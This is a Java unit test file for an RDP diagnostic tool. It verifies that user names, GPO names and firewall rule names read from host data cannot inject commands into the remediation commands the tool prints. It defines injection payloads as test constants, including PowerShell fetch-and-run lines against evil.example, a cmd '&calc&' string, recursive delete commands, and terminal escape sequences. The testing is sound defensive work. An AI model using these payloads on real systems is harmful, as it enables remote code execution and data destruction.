package io.rdpdoctor.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.rdpdoctor.TestRules;
import io.rdpdoctor.diagnosis.Diagnoser;
import io.rdpdoctor.diagnosis.Report;
import io.rdpdoctor.factfile.FactFileReader;
import io.rdpdoctor.facts.FactSet;
import io.rdpdoctor.knowledge.PowerShellTokens;
import io.rdpdoctor.knowledge.ShellQuoting;
import io.rdpdoctor.parse.InputReader;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.function.BiConsumer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The adversarial review's critical findings, end to end through the real rule base and every
 * renderer: F1 (a user name typed at the logon prompt, via a 4625 event in the collector's
 * wevtutil capture) and F2 (a GPO name, a firewall rule name). No runnable command carries the
 * attacker's code: PowerShell sees it only inside string literals, cmd never gets it, and a
 * command that cannot hold it is withheld with the value shown apart. Also F3/F4: terminal
 * escapes and line breaks never reach the output raw.
 */
class InjectionReproductionTest {

    /** F1 as the review built it: the account name of a 4625 event; no spaces, so the parser keeps it whole. */
    static final String F1_USER = "x';iex(iwr('http://evil.example/p'));'0xC0000234";
    /** F1's cmd variant: it makes ACCOUNT-DISABLED print `net user "..."`. */
    static final String F1_CMD_USER = "a';iex(iwr('http://evil.example/p'));'\"&calc&\"0xC0000072";
    static final String F2_GPO = "Baseline'; Invoke-WebRequest http://evil.example/s | iex; #";
    static final String F2_RULE = "RDP\" & del /s /q C:\\pwned\\* & rem \"'; Remove-Item -Recurse C:\\pwned -Force; #";

    @TempDir
    Path tmp;

    private static Report diagnose(FactSet facts) {
        return new Diagnoser(TestRules.bundled(), TestRules.DAY).diagnose(facts);
    }

    private static Report fromFactFile(String name, String yaml) throws Exception {
        return diagnose(new FactFileReader().read(name, yaml.getBytes(StandardCharsets.UTF_8)));
    }

    /**
     * The attacker's name ends in the sub-status code of the diagnosis the test needs; since the
     * Sub Status field is read as a field (F17), the event carries that code there too, so that
     * the fix with the name in it is rendered.
     */
    private static String subStatusOf(String user) {
        return user.substring(user.length() - 10);
    }

    private Report fromWevtutilCapture(String user) throws Exception {
        Path dir = Files.createDirectories(tmp.resolve("cap-" + Integer.toHexString(user.hashCode())));
        Files.writeString(dir.resolve("manifest.json"), "{\"host\":\"SRV01\"}");
        String event = "Event[0]:\r\n  Log Name: Security\r\n  Source: Microsoft-Windows-Security-Auditing\r\n"
                + "  Date: 2025-03-14T08:55:12.447Z\r\n  Event ID: 4625\r\n  Task: Logon\r\n  Level: Information\r\n  Opcode: Info\r\n"
                + "  Keyword: Audit Failure\r\n  User: N/A\r\n  User Name: N/A\r\n  Computer: SRV01\r\n  Description: \r\n"
                + "An account failed to log on.\r\n\r\nLogon Type:\t\t\t3\r\n\r\nAccount For Which Logon Failed:\r\n"
                + "\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t" + user + "\r\n\r\nFailure Information:\r\n"
                + "\tStatus:\t\t\t0xC000006D\r\n\tSub Status:\t\t" + subStatusOf(user) + "\r\n\r\nNetwork Information:\r\n"
                + "\tSource Network Address:\t203.0.113.9\r\n\r\n";
        Files.writeString(dir.resolve("wevtutil-qe.txt"), event, StandardCharsets.UTF_8);
        return diagnose(new InputReader().read(dir).facts());
    }

    /** Every command of the report as (field, command): what an engineer would paste. */
    private static List<String[]> commands(Report r) {
        List<String[]> out = new ArrayList<>();
        BiConsumer<String, String> add = (f, c) -> {
            if (c != null) out.add(new String[] {f, c});
        };
        List<Report.Diagnosis> all = new ArrayList<>();
        flatten(r.causes(), all);
        flatten(r.security(), all);
        for (Report.Diagnosis d : all) {
            for (Report.Step s : d.fix()) {
                add.accept("powershell", s.powershell());
                add.accept("cmd", s.cmd());
                add.accept("command", s.command());
                add.accept("backup", s.backup());
                add.accept("undo", s.undo());
            }
            if (d.verify() != null) {
                add.accept("powershell", d.verify().powershell());
                add.accept("cmd", d.verify().cmd());
                add.accept("command", d.verify().command());
            }
        }
        for (Report.NextStep n : r.nextSteps()) {
            add.accept("powershell", n.powershell());
            add.accept("cmd", n.cmd());
        }
        return out;
    }

    private static void flatten(List<Report.Diagnosis> ds, List<Report.Diagnosis> out) {
        for (Report.Diagnosis d : ds) {
            out.add(d);
            flatten(d.explains(), out);
        }
    }

    private static List<Report.Withheld> withheld(Report r) {
        List<Report.Diagnosis> all = new ArrayList<>();
        flatten(r.causes(), all);
        flatten(r.security(), all);
        List<Report.Withheld> out = new ArrayList<>();
        for (Report.Diagnosis d : all) {
            d.fix().forEach(s -> out.addAll(s.withheld()));
            if (d.verify() != null) out.addAll(d.verify().withheld());
        }
        r.nextSteps().forEach(n -> out.addAll(n.withheld()));
        return out;
    }

    /**
     * No command runs any of the attacker's words: in PowerShell (and lines for either shell) they
     * appear only inside string literals; a cmd line never holds the value with & or ".
     */
    private static void assertNoRunnableInjection(Report r, String value, String... attackerWords) {
        List<String[]> cmds = commands(r);
        assertThat(cmds).isNotEmpty();
        for (String[] fc : cmds) {
            String field = fc[0];
            String c = fc[1];
            ShellQuoting.Shell shell = ShellQuoting.Shell.of(field, c);
            if (shell == ShellQuoting.Shell.POWERSHELL || shell == ShellQuoting.Shell.BOTH) {
                assertThat(c).as("the raw value in a PowerShell command").doesNotContain(value);
                for (PowerShellTokens.Token t : PowerShellTokens.tokenize(c)) {
                    if (!t.isLiteralString()) {
                        for (String w : attackerWords) {
                            assertThat(t.value()).as(field + ": " + c).doesNotContainIgnoringCase(w);
                        }
                    }
                }
            }
            if (shell != ShellQuoting.Shell.POWERSHELL) {
                assertThat(c).as(field + ": " + c).doesNotContain("&calc&").doesNotContain("& del ").doesNotContain("\"&");
            }
            if (shell == ShellQuoting.Shell.ANY) {
                assertThat(c).as(field + ": " + c).doesNotContain("evil.example");
            }
        }
    }

    private static String render(Renderer renderer, Report r) {
        StringWriter w = new StringWriter();
        renderer.render(r, new PrintWriter(w));
        return w.toString();
    }

    /** The lines of the text report that hold a command to paste. */
    private static List<String> commandLines(String text) {
        return text.lines().map(String::strip)
                .filter(l -> l.matches("^(PowerShell|cmd|run|backup first|undo): .*") && !l.contains("NOT PRINTED")).toList();
    }

    @Test
    void f1TheUserNameOfA4625EventIsOneStringLiteralInEveryFix() throws Exception {
        Report r = fromWevtutilCapture(F1_USER);
        assertThat(r.causes()).extracting(Report.Diagnosis::id).contains("ACCOUNT-LOCKED-OUT");
        assertNoRunnableInjection(r, F1_USER, "iex", "iwr", "evil.example");
        String text = render(new TextRenderer(), r);
        assertThat(text).contains("Unlock-ADAccount -Identity 'x'';iex(iwr(''http://evil.example/p''));''0xC0000234'");
        assertThat(commandLines(text)).noneMatch(l -> l.contains(F1_USER));
        for (Renderer other : List.of(new MarkdownRenderer(), new HtmlRenderer(), new JsonRenderer())) {
            assertThat(render(other, r)).doesNotContain("-Identity '" + F1_USER + "'").doesNotContain("-Identity " + F1_USER);
        }
    }

    @Test
    void f1WithCmdMetacharactersTheNetUserCommandIsWithheldAndTheValueShownApart() throws Exception {
        Report r = fromWevtutilCapture(F1_CMD_USER);
        assertThat(r.causes()).extracting(Report.Diagnosis::id).contains("ACCOUNT-DISABLED");
        assertNoRunnableInjection(r, F1_CMD_USER, "iex", "iwr", "evil.example", "calc");
        assertThat(withheld(r)).anySatisfy(w -> {
            assertThat(w.field()).isEqualTo("cmd");
            assertThat(w.command()).isEqualTo("net user \"<user>\" /active:yes");
            assertThat(w.values()).singleElement().satisfies(v -> {
                assertThat(v.name()).isEqualTo("user");
                assertThat(v.value()).isEqualTo(F1_CMD_USER);
                assertThat(v.problem()).contains("cmd cannot quote");
            });
        });
        String text = render(new TextRenderer(), r);
        assertThat(text).contains("cmd: NOT PRINTED").contains("net user \"<user>\" /active:yes")
                .contains("<user> from the host (contains \", which cmd cannot quote): «" + F1_CMD_USER + "»");
        assertThat(commandLines(text)).filteredOn(l -> l.startsWith("cmd:")).noneMatch(l -> l.contains("calc"));
        assertThat(commandLines(text)).noneMatch(l -> l.contains(F1_CMD_USER));
        assertThat(render(new MarkdownRenderer(), r)).contains("**Not printed** (cmd)");
        assertThat(render(new HtmlRenderer(), r)).contains("Not printed (cmd)").doesNotContain("&calc&");
        assertThat(render(new JsonRenderer(), r)).contains("\"withheld\"").contains("\"command\" : \"net user \\\"<user>\\\" /active:yes\"");
    }

    @Test
    void f1TheSameNameFromAFactFilesEventIsQuotedToo() throws Exception {
        Report r = fromFactFile("evt-inj.yaml", "events:\n  - {log: Security, provider: Microsoft-Windows-Security-Auditing, id: 4625, message: "
                + "\"An account failed to log on. Logon Type: 3 Account For Which Logon Failed: Security ID: S-1-0-0 Account Name: "
                + F1_USER.replace("\"", "\\\"") + " Failure Information: Status: 0xC000006D Sub Status: " + subStatusOf(F1_USER)
                + " Network Information: Source Network Address: 203.0.113.9\"}\n");
        assertThat(r.causes()).extracting(Report.Diagnosis::id).contains("ACCOUNT-LOCKED-OUT");
        assertNoRunnableInjection(r, F1_USER, "iex", "iwr", "evil.example");
    }

    @Test
    void f2TheGpoNameIsOneLiteralInBackupFixAndUndo() throws Exception {
        String sample = Files.readString(Path.of("facts-samples", "gpo-denies-rdp.yaml"));
        assertThat(sample).contains("gpo: Servers-Hardening-Baseline");
        Report r = fromFactFile("gpo-inj.yaml", sample.replace("gpo: Servers-Hardening-Baseline",
                "gpo: \"" + F2_GPO.replace("\\", "\\\\") + "\""));
        assertThat(r.causes()).extracting(Report.Diagnosis::id).contains("RDP-DISABLED-BY-GPO");
        assertNoRunnableInjection(r, F2_GPO, "Invoke-WebRequest", "evil.example", "iex");
        String text = render(new TextRenderer(), r);
        assertThat(text).contains("backup first: New-Item -ItemType Directory -Force -Path 'C:\\rdp-doctor-gpo-backup' | Out-Null; "
                + "Backup-GPO -Name 'Baseline''; Invoke-WebRequest http://evil.example/s | iex; #' -Path");
        // a harmless name with a quote works as well
        Report ordinary = fromFactFile("gpo-quote.yaml", sample.replace("gpo: Servers-Hardening-Baseline", "gpo: \"Default Domain Controllers' Policy\""));
        assertThat(render(new TextRenderer(), ordinary)).contains("Backup-GPO -Name 'Default Domain Controllers'' Policy'");
    }

    @Test
    void f2TheFirewallRuleNameNeverReachesCmdAndIsOneLiteralInPowerShell() throws Exception {
        Report r = fromFactFile("fw-inj.yaml", "firewallRules:\n  - {name: \"" + F2_RULE.replace("\\", "\\\\").replace("\"", "\\\"")
                + "\", group: '@FirewallAPI.dll,-28752', enabled: true, direction: Inbound, action: Allow, protocol: TCP,"
                + " localPorts: ['3389'], profiles: [Public, Private], service: termservice}\n");
        assertThat(r.security()).extracting(Report.Diagnosis::id).contains("SEC-PORT-EXPOSED");
        assertNoRunnableInjection(r, F2_RULE, "Remove-Item", "pwned", "del");
        assertThat(withheld(r)).anySatisfy(w -> {
            assertThat(w.field()).isEqualTo("cmd");
            assertThat(w.command()).startsWith("netsh advfirewall firewall set rule name=\"<rule>\"");
        });
        List<String> lines = commandLines(render(new TextRenderer(), r));
        assertThat(lines).filteredOn(l -> l.startsWith("cmd:")).noneMatch(l -> l.contains("pwned"));
        assertThat(lines).noneMatch(l -> l.contains(F2_RULE));
    }

    @Test
    void f3AndF4TerminalEscapesAndLineBreaksNeverReachTheOutputRaw() throws Exception {
        String host = "H1\u001b[2J\u001b]52;c;aWV4\u0007\u001b]8;;http://evil.example/\u0007click\u001b]8;;\u0007\u202e\u009b";
        String gpo = "Baseline\n\nNo cause found: the host is healthy.\n1  HEALTHY  [confirmed]  nothing to fix\r";
        String sample = Files.readString(Path.of("facts-samples", "gpo-denies-rdp.yaml"));
        String json = new com.fasterxml.jackson.databind.ObjectMapper().writeValueAsString(gpo);
        Report r = fromFactFile("esc.yaml", sample.replace("gpo: Servers-Hardening-Baseline", "gpo: " + json)
                .replaceFirst("(?m)^  name: .*$", java.util.regex.Matcher.quoteReplacement(
                        "  name: " + new com.fasterxml.jackson.databind.ObjectMapper().writer().with(Visible.JSON_ESCAPES).writeValueAsString(host))));
        assertThat(r.host()).isEqualTo(host);
        for (Renderer renderer : List.of(new TextRenderer(), new MarkdownRenderer(), new HtmlRenderer(), new JsonRenderer())) {
            String out = render(renderer, r);
            String name = renderer.getClass().getSimpleName();
            assertThat(out.chars().filter(c -> c == 0x1b || c == 0x07 || c == 0x202e || c == 0x9b || c == '\r')).as(name).isEmpty();
            assertThat(out).as(name).doesNotContain("\n1  HEALTHY").doesNotContain("\nNo cause found: the host is healthy");
        }
        String text = render(new TextRenderer(), r);
        assertThat(text).startsWith("rdp-doctor: H1\\u001b[2J\\u001b]52;c;aWV4\\u0007");
        assertThat(text).contains("Baseline\\u000a\\u000aNo cause found");
        // the GPO name with line breaks is not put into any command: each command stays one line
        assertThat(withheld(r)).isNotEmpty().allSatisfy(w -> assertThat(w.values().get(0).problem()).contains("control character"));
        assertThat(commands(r)).noneMatch(c -> c[1].contains("\n") || c[1].contains("Baseline"));
    }
}
